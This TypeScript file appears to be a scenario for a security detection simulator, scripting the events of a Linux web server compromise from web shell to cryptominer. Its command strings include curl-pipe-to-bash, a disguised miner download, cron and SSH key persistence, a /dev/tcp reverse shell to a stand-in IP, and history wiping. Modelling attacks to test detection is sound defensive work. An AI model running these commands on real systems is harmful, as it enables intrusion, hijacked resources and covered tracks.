import type { Story } from './story.ts';

/** A web application runs a shell for a stranger, who brings a miner and stays by cron and a key. */
export const linuxWebShell: Story = {
  name: 'A web server is made to mine',
  os: 'linux',
  play(host) {
    const web = host.start(host.root, '/usr/sbin/apache2', '/usr/sbin/apache2 -k start', 'www-data');
    const shell = host.start(
      web,
      '/usr/bin/dash',
      'sh -c id; uname -a; curl -fsSL http://203.0.113.80/i.sh | bash',
    );
    host.start(shell, '/usr/bin/id', 'id');
    const curl = host.start(shell, '/usr/bin/curl', 'curl -fsSL http://203.0.113.80/i.sh');
    host.connect(curl, { ip: '203.0.113.80', port: 80, url: 'http://203.0.113.80/i.sh' });
    const bash = host.start(shell, '/usr/bin/bash', 'bash');
    const wget = host.start(bash, '/usr/bin/wget', 'wget -q -O /tmp/.x/kworkerd http://203.0.113.80/m');
    host.connect(wget, { ip: '203.0.113.80', port: 80, url: 'http://203.0.113.80/m' });
    host.file(wget, '/tmp/.x/kworkerd');
    host.start(bash, '/usr/bin/chmod', 'chmod +x /tmp/.x/kworkerd');
    const miner = host.start(
      bash,
      '/tmp/.x/kworkerd',
      '/tmp/.x/kworkerd --donate-level 1 -o stratum+tcp://pool.example.net:3333 -u wallet -p x',
    );
    host.connect(miner, { ip: '203.0.113.90', port: 3333, url: 'pool.example.net' });
    host.start(bash, '/usr/bin/crontab', 'crontab -');
    host.file(bash, '/var/spool/cron/crontabs/www-data');
    host.start(bash, '/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/203.0.113.81/4444 0>&1');
    host.connect(bash, { ip: '203.0.113.81', port: 4444 });
    host.file(bash, '/root/.ssh/authorized_keys', 'FileModified');
    host.start(bash, '/usr/bin/bash', 'bash -c history -c; rm -f /root/.bash_history');
  },
};
